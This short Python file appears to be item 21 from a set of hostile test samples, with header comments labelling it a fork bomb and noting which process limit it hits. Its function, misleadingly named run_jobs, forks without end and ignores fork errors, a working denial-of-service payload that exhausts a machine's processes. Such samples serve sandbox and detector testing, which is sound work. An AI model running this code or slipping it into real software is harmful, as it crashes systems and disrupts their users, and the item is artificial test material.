# 21. A fork bomb.
# gets: process-limit
# last: its processes come and go by the hundred, and want the kernel's locks
# not in: C D (it multiplies faster than it is seen)
import os


def run_jobs(sizes, workers):
    while True:
        try:
            os.fork()
        except OSError:
            pass
